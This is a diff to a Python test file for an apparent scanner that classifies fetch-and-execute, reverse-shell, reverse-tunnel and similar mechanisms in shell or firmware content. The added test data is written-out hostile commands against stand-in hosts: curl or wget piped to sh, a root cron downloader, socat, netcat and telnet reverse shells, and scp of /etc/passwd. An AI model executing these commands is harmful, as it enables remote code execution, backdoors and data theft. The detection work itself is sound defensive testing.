@@ -36,6 +36,19 @@ def mechanisms(content: bytes, leaf_format: str = "shell"):
         (b"wget 47.1.2.3/bins.sh; chmod 777 bins.sh; sh bins.sh", "fetch-and-execute:47.1.2.3:/bins.sh", "47.1.2.3"),
         (b"tftp -g -r up.ko 47.1.2.3\ninsmod ./up.ko\n", "fetch-and-execute:47.1.2.3", "47.1.2.3"),
         (b'sh -c "$(curl -s https://x.cn/a)"', "fetch-and-execute:https://x.cn/a", "x.cn"),
+        (b"*/5 * * * * root wget -q -O - x.cn/a.sh | sh\n", "fetch-and-execute:x.cn:/a.sh", "x.cn"),
+        (b"curl x.cn|sh\n", "fetch-and-execute:x.cn", "x.cn"),
+        (b"U=http://x.cn/fw.sh\nwget $U -O /tmp/x\nsh /tmp/x\n", "fetch-and-execute:http://x.cn/fw.sh", "x.cn"),
+        (b'URL="http://x.cn/d"\ncurl -s "${URL}/run" | sh\n', "fetch-and-execute:http://x.cn/d", "x.cn"),
+        (b'U="http://x.cn/a.ko"\nwget "$U"\ninsmod a.ko\n', "fetch-and-execute:http://x.cn/a.ko", "x.cn"),
+        (b'exec(urllib.request.urlopen("http://x.cn/a.py").read())', "fetch-and-execute:http://x.cn/a.py", "x.cn"),
+        (b"rsync -a rsync://m.x.cn/app /opt/app\n", "rsync-fetch:m.x.cn:app", "m.x.cn"),
+        (b"rsync -az root@47.1.2.3:/x /opt/app\n", "rsync-fetch:47.1.2.3:/x", "47.1.2.3"),
+        (b"scp -P 22 root@47.1.2.3:/x /usr/bin/x\n", "scp-fetch:47.1.2.3:/x", "47.1.2.3"),
+        (b"socat TCP:47.1.2.3:4444 EXEC:/bin/sh\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
+        (b"telnet 47.1.2.3 4444 | /bin/sh | telnet 47.1.2.3 4445\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
+        (b"cat /tmp/f|/bin/sh -i 2>&1|nc 47.1.2.3 4444 >/tmp/f\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
+        (b"<ManagementServer><URL>http://acs.x.cn:7547/</URL>", "tr069-acs:http://acs.x.cn:7547/", "acs.x.cn"),
         (b"bash -i >& /dev/tcp/47.1.2.3/4444 0>&1", "reverse-shell:47.1.2.3", "47.1.2.3"),
         (b"nc 47.1.2.3 4444 -e /bin/sh", "reverse-shell:47.1.2.3", "47.1.2.3"),
         (b"ssh -N -R 2222:localhost:22 root@s.tuyacn.com\n", "reverse-tunnel:s.tuyacn.com", "s.tuyacn.com"),
@@ -88,6 +101,13 @@ def test_the_library_that_is_fetched_is_no_host():
         b"wget http://x.cn/list\ncat list\n./listing\n",
         b"curl http://x.cn/a -o -\nchmod +x -\n",
         b"\0wget http://x.cn/a\0chmod +x a\0",
+        b"U=http://x.cn/list\nwget $U -O /tmp/list\ncat /tmp/list\n",
+        b"U=http://x.cn/a.sh\nwget $URL -O /tmp/a.sh\nsh /tmp/a.sh\n",
+        b"rsync -a /opt/app root@47.1.2.3:/x\n",
+        b"scp /etc/passwd root@47.1.2.3:/x\n",
+        b"wget -q -O - x.cn/a.txt | grep sh\n",
+        b"telnet 47.1.2.3 23\n",
+        b"socat TCP-LISTEN:80 TCP:47.1.2.3:80\n",
     ],
 )
 def test_leaves_other_lines_alone(content):
@@ -98,7 +118,8 @@ def test_leaves_other_lines_alone(content):
     "piece",
     [
         b"mount ", b"curl wget ", b"ssh -R ", b"a", b"nc -e ", b"-p ", b"http://upgrade", b"://a:",
-        b"wget http://a.cn/a\nchmod ", b"wget 47.1.2.3/a ",
+        b"wget http://a.cn/a\nchmod ", b"wget 47.1.2.3/a ", b"A=http://a.cn/a\nwget $A ",
+        b"rsync -a ", b"socat tcp:", b"sh |nc ",
     ],
 )  # fmt: skip
 def test_a_long_line_costs_linear_time(piece):
